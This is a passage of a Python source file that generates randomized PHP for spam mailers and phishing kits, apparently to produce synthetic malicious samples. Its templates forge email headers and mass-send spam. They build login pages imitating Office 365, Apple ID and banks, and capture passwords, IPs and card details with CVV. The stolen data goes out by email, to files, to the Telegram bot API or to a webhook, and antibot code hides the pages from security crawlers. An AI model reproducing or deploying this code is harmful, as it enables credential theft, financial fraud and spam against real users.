                    "%s->Subject = $_POST['subject']; %s->msgHTML($_POST['html']);" % (m, m),
                    "foreach (%s as %s) {" % (_list_src(r, S), t),
                    "  %s->clearAddresses(); %s->addAddress(trim(%s));" % (m, m, t),
                    "  try { %s->send(); echo 'OK ' . %s . \"\\n\"; } catch (Exception $e) { echo 'ERR ' . %s . \"\\n\"; }"
                    % (m, t, t), "}"])


def ml_smtp_socket(r, S):
    s, t = S.var(), S.var()
    port = r.choice(("25", "587", "(int)$_POST['port']"))
    return S.lines([
        "function %s($s, $c) { fwrite($s, $c . \"\\r\\n\"); return fgets($s, 512); }" % "sx",
        "foreach (%s as %s) {" % (_list_src(r, S), t),
        "  %s = @%s(%s, %s, $e, $es, 10);" % (s, S.fn("fsockopen"),
                                              r.choice(("$_POST['relay']", "'mx.' . substr(strrchr(trim(%s), '@'), 1)"
                                                        % t)), port),
        "  if (!%s) continue;" % s,
        "  fgets(%s, 512); sx(%s, 'HELO ' . $_SERVER['SERVER_NAME']);" % (s, s),
        "  sx(%s, 'MAIL FROM:<' . $_POST['from'] . '>'); sx(%s, 'RCPT TO:<' . trim(%s) . '>');" % (s, s, t),
        "  sx(%s, 'DATA'); sx(%s, \"Subject: {$_POST['subj']}\\r\\nFrom: {$_POST['from']}\\r\\n\\r\\n\" . "
        "$_POST['body'] . \"\\r\\n.\");" % (s, s),
        "  sx(%s, 'QUIT'); fclose(%s);" % (s, s), "}"])


def ml_header_forge(r, S):
    t, h = S.var(), S.var()
    xm = r.choice(("Microsoft Office Outlook 16.0", "Apple Mail (2.3654)", "Thunderbird 102.4.0", "PHP/" +
                   str(r.randint(5, 8))))
    return S.lines([
        "%s = 'From: \"' . $_POST['fname'] . '\" <' . $_POST['femail'] . \">\\r\\n\";" % h,
        "%s .= 'Reply-To: ' . $_POST['reply'] . \"\\r\\n\";" % h,
        "%s .= 'Return-Path: ' . $_POST['femail'] . \"\\r\\n\";" % h,
        "%s .= 'X-Mailer: %s' . \"\\r\\n\" . 'X-Priority: 1' . \"\\r\\n\";" % (h, xm),
        "%s .= \"MIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n\";" % h,
        "foreach (%s as %s) {" % (_list_src(r, S), t),
        "  %s(trim(%s), '=?UTF-8?B?' . base64_encode($_POST['subj']) . '?=', $_POST['msg'], %s, '-f' . $_POST['femail']);"
        % (S.fn("mail"), t, h), "}"])


def ml_leaf_page(r, S):
    title = r.choice(("Mailer Inbox Sender", "PHP Mailer Pro", "Fast Sender v3", "Bulk Mail Panel"))
    fields = r.sample(("senderName", "senderEmail", "replyTo", "subject", "messageLetter", "emailList"), 6)
    form = "".join('<label>%s</label><%s name="%s"%s>\n' % (
        f, "textarea" if f in ("messageLetter", "emailList") else "input", f,
        "></textarea" if f in ("messageLetter", "emailList") else "") for f in fields)
    php = S.lines([
        "if (isset($_POST['action']) && $_POST['action'] == 'send') {",
        "  $list = explode(\"\\n\", trim($_POST['emailList']));",
        "  $i = 0;",
        "  foreach ($list as $to) {",
        "    $to = trim($to); $i++;",
        "    $msg = str_replace(array('[-email-]', '[-randomstring-]', '[-randomnumber-]'), "
        "array($to, substr(md5(mt_rand()), 0, 8), mt_rand(1000, 9999)), $_POST['messageLetter']);",
        "    $hdr = 'From: ' . $_POST['senderName'] . ' <' . $_POST['senderEmail'] . \">\\r\\nReply-To: \" . "
        "$_POST['replyTo'] . \"\\r\\nContent-Type: text/html\";",
        "    $ok = mail($to, $_POST['subject'], $msg, $hdr);",
        "    echo '<div>' . $i . ' / ' . count($list) . ' ' . htmlspecialchars($to) . ' ' . ($ok ? '<font "
        "color=green>OK</font>' : '<font color=red>FAIL</font>') . '</div>';",
        "  }", "}"])
    return ("<?php\n%s\n?>\n<html><head><title>%s</title></head><body>\n<form method=\"post\">\n%s"
            "<input type=\"hidden\" name=\"action\" value=\"send\"><input type=\"submit\" value=\"Send\">\n</form>\n"
            "<p>Server: <?php echo php_uname(); ?> | safe_mode: <?php echo ini_get('safe_mode') ? 'ON' : 'OFF'; ?></p>\n"
            "</body></html>\n" % (php, title, form))


def ml_encoded(r, S):
    return layers(r, S, ml_oneline(r, S), r.randint(1, 2))


# ---------------------------------------------------------------------------
# phishing-kit handlers

BRANDS = ("Office 365", "Webmail", "Online Banking", "Apple ID", "DHL Express", "Netflix", "Dropbox Business",
          "Adobe Document Cloud", "Outlook Web App", "Chase", "Wells Secure", "Microsoft Account")


def _collect(r, S):
    ip = r.choice(("$_SERVER['REMOTE_ADDR']", "getenv('REMOTE_ADDR')", "$_SERVER['HTTP_X_FORWARDED_FOR'] ?? "
                                                                          "$_SERVER['REMOTE_ADDR']"))
    u, p = r.choice((("email", "password"), ("login", "passwd"), ("user", "pass"), ("ai", "pr"), ("username", "pw"),
                     ("em", "ps")))
    msg = S.var()
    lines = ["$ip = %s;" % ip,
             "$ua = $_SERVER['HTTP_USER_AGENT'];",
             "%s = \"--------- %s ReZulT ---------\\n\";" % (msg, r.choice(BRANDS)),
             "%s .= 'Email: ' . $_POST['%s'] . \"\\n\";" % (msg, u),
             "%s .= 'Password: ' . $_POST['%s'] . \"\\n\";" % (msg, p),
             "%s .= \"IP: $ip | \" . %s($ip) . \"\\n\";" % (msg, S.fn("gethostbyaddr")),
             "%s .= \"UA: $ua\\nDate: \" . date('d/m/Y H:i:s') . \"\\n\";" % msg]
    if r.random() < 0.4:
        lines.insert(1, "$geo = @json_decode(file_get_contents('http://ip-api.example/json/' . $ip));")
        lines.append("%s .= 'Country: ' . @$geo->country . \"\\n\";" % msg)
    if r.random() < 0.3:
        lines.append("%s .= 'Card: ' . $_POST['ccnum'] . ' ' . $_POST['exp'] . ' CVV ' . $_POST['cvv'] . \"\\n\";" % msg)
    return msg, lines


def _exit_redirect(r, S):
    return r.choice(("header('Location: https://login.microsoftonline.example/');",
                     "header(\"Location: https://www.example.com/signin?err=1\");",
                     "echo \"<script>window.location.href='https://accounts.example.org/';</script>\";",
                     "header('Location: ../index.php?error=invalid&session=' . md5(time()));",
                     "echo '<meta http-equiv=\"refresh\" content=\"0;url=https://example.net\">';"))


def ph_mail(r, S):
    msg, lines = _collect(r, S)
    to = r.choice(("'resultz.box@example.com'", "base64_decode('%s')" % "cmVzdWx0c0BleGFtcGxlLm9yZw==",
                   "$send", "'logs' . '@' . 'example.net'"))
    pre = ["$send = 'drop.%d@example.com';" % r.randint(1, 999)] if to == "$send" else []
    return S.lines(pre + lines + ["$subject = \"New Log: $ip\";",
                                  "$headers = \"From: Rezult <noreply@%s>\";" % r.choice(("example.com", "mail.example")),
                                  "%s(%s, $subject, %s, $headers);" % (S.fn("mail"), to, msg),
                                  _exit_redirect(r, S)])


def ph_file(r, S):
    msg, lines = _collect(r, S)
    fn = sq(r.choice(("results.txt", ".logs.txt", "../rezult/" + str(r.randint(100, 999)) + ".html", "data.log",
                      "error_log_", "./.htpasswds")))
    k = r.randint(0, 1)
    w = ("$fp = fopen(%s, 'a'); fwrite($fp, %s); fclose($fp);" % (fn, msg) if k == 0 else
         "%s(%s, %s, FILE_APPEND | LOCK_EX);" % (S.fn("file_put_contents"), fn, msg))
    return S.lines(lines + [w, _exit_redirect(r, S)])


def ph_telegram(r, S):
    msg, lines = _collect(r, S)
    tok = "%d:%s" % (r.randint(10 ** 9, 9 * 10 ** 9), "".join(r.choice("ABCDEFGHabcdefgh0123456789_-") for _ in range(35)))
    chat = "-100%d" % r.randint(10 ** 9, 9 * 10 ** 9)
    pre, host = hide(r, S, "https://api.telegram.org/bot")
    k = r.randint(0, 2)
    if k == 0:
        send = "%s(%s . %s . '/sendMessage?chat_id=%s&text=' . urlencode(%s));" % (
            S.fn("file_get_contents"), host, sq(tok), chat, msg)
    elif k == 1:
        send = ("$ch = curl_init(%s . %s . '/sendMessage'); curl_setopt($ch, CURLOPT_POST, 1); "
                "curl_setopt($ch, CURLOPT_POSTFIELDS, array('chat_id' => '%s', 'text' => %s)); "
                "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true); curl_exec($ch); curl_close($ch);" % (
                    host, sq(tok), chat, msg))
    else:
        send = ("$ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => "
                "'Content-Type: application/json', 'content' => json_encode(array('chat_id' => '%s', 'text' => %s)))));"
                " @file_get_contents(%s . %s . '/sendMessage', false, $ctx);" % (chat, msg, host, sq(tok)))
    return S.lines(pre + lines + [send, _exit_redirect(r, S)])


def ph_webhook(r, S):
    msg, lines = _collect(r, S)
    hook = sq("https://discord.example/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18),
                                                           "".join(r.choice("abcdefXYZ0123_-") for _ in range(60))))
    return S.lines(lines + ["$ch = curl_init(%s);" % hook,
                            "curl_setopt($ch, CURLOPT_HTTPHEADER, array('Content-type: application/json'));",
                            "curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(array('content' => %s)));" % msg,
                            "curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); curl_exec($ch);", _exit_redirect(r, S)])


def ph_antibot(r, S):
    ips = ", ".join(sq("^%d.%d.*.*" % (r.randint(60, 220), r.randint(0, 255))) for _ in range(r.randint(6, 20)))
    uas = ", ".join(sq(u) for u in r.sample(("googlebot", "bingbot", "crawler", "spider", "phishtank", "netcraft",
                                             "yandex", "bot", "curl", "python-requests", "slurp", "msnbot",
                                             "facebookexternalhit", "ahrefs", "semrush", "wget", "paypal"), 9))
    hosts = ", ".join(sq(h) for h in r.sample(("google", "amazonaws", "microsoft", "phishtank", "paypal",
                                               "digitalocean", "ovh", "kaspersky", "netcraft", "msn", "yahoo"), 6))
    deny = r.choice(("header('HTTP/1.0 404 Not Found'); die('<h1>404 Not Found</h1>');",
                     "header('Location: https://www.google.com'); exit;", "die('Access denied');"))
    log = r.random() < 0.5
    return S.lines([
        "$bannedIP = array(%s);" % ips,
        "if (in_array($_SERVER['REMOTE_ADDR'], $bannedIP)) { %s }" % deny,
        "foreach ($bannedIP as $ip) { if (preg_match('/' . $ip . '/', $_SERVER['REMOTE_ADDR'])) { %s } }" % deny,
        "$hostname = gethostbyaddr($_SERVER['REMOTE_ADDR']);",
        "$blocked_words = array(%s);" % hosts,
        "foreach ($blocked_words as $word) { if (substr_count(strtolower($hostname), $word) > 0) { %s%s } }" % (
            "file_put_contents('bots.txt', $_SERVER['REMOTE_ADDR'] . \"\\n\", FILE_APPEND); " if log else "", deny),
        "foreach (array(%s) as $a) { if (stripos($_SERVER['HTTP_USER_AGENT'], $a) !== false) { %s } }" % (uas, deny),
    ])


def ph_redirect(r, S):
    k = r.randint(0, 2)
    if k == 0:
        return S.lines([
            "$random = md5(rand(0, 100000) . time());", "$src = 'page';",
            "$dst = $random;",
            "function recurse_copy($src, $dst) { $dir = opendir($src); @mkdir($dst); while (false !== ($f = readdir($dir))) "
            "{ if ($f != '.' && $f != '..') { if (is_dir($src . '/' . $f)) recurse_copy($src . '/' . $f, $dst . '/' . $f); "
            "else copy($src . '/' . $f, $dst . '/' . $f); } } closedir($dir); }",
            "recurse_copy($src, $dst);",
            "header('Location: ' . $dst . '/index.php?' . %s);" % r.choice(
                ("'email=' . $_GET['email']", "http_build_query($_GET)", "'cmd=login_submit&id=' . md5(time())"))])
    if k == 1:
        return S.lines([
            "include 'antibot.php';",
            "$e = isset($_GET['e']) ? base64_decode($_GET['e']) : '';",
            "$ref = 'verify/' . substr(sha1(mt_rand()), 0, 12);",
            "@mkdir($ref); @copy('login.html', $ref . '/index.html');",
            "file_put_contents('visits.txt', date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . $e . \"\\n\", FILE_APPEND);",
            "header(\"Location: $ref/?email=\" . urlencode($e));"])
    return S.lines([
        "session_start();",
        "$_SESSION['token'] = bin2hex(random_bytes(8));",
        "$c = @json_decode(@file_get_contents('http://ip-api.example/json/' . $_SERVER['REMOTE_ADDR']), true);",
        "if (!in_array(@$c['countryCode'], array('US', 'GB', 'CA', 'AU'))) { header('Location: https://www.example.com'); exit; }",
        "header('Location: ./signin/?sslchannel=true&sessionid=' . $_SESSION['token']);"])


def ph_login_clone(r, S):
    brand = r.choice(BRANDS)
    action = r.choice(("next.php", "post.php", "login.php", "verify.php", "send.php", "auth/process.php"))
    u, p = r.choice((("email", "password"), ("login", "passwd"), ("user", "pass"), ("username", "pw")))
    head = r.choice(("<?php include 'antibot.php'; include 'blocker.php'; ?>",
                     "<?php require_once 'bots/anti1.php'; session_start(); $_SESSION['email'] = @$_GET['email']; ?>",
                     "<?php $email = isset($_GET['email']) ? htmlspecialchars(base64_decode($_GET['email'])) : ''; ?>"))
    return ("%s\n<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Sign in to %s</title>\n"
            "<link rel=\"icon\" href=\"images/favicon.ico\"></head>\n<body class=\"login\">\n"
            "<div class=\"box\"><img src=\"images/logo.png\" alt=\"%s\"><h2>Sign in</h2>\n"
            "<form action=\"%s\" method=\"post\">\n<input type=\"email\" name=\"%s\" value=\"<?php echo @$email; ?>\" "
            "placeholder=\"Email, phone or Skype\" required>\n<input type=\"password\" name=\"%s\" placeholder=\"Password\" "
            "required>\n<input type=\"submit\" value=\"Sign in\"></form>\n<p>Your session has expired. Please verify your "
            "account to continue.</p></div>\n</body></html>\n" % (head, brand, brand, action, u, p))
